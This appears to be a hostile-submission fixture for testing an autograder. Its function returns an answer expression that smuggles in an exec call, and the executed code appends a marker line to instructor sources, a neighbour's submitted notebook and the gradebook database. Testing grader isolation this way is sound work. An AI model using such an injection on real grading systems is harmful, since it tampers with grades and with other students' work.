# %% expression
HARM = """
names = ["../../source/07_sums.py", "../../source/09_foreign.py", "../../release/09_foreign/foreign.ipynb"]
names += ["../../submitted/a-neighbour/09_foreign/foreign.ipynb", "../../gradebook/gradebook.db", "foreign.ipynb"]
for name in names:
    try:
        with open(name, "a") as file:
            file.write("changed by a student")
    except Exception:
        pass
"""


def expression(number):
    return f"exec({HARM!r}) or {number}"
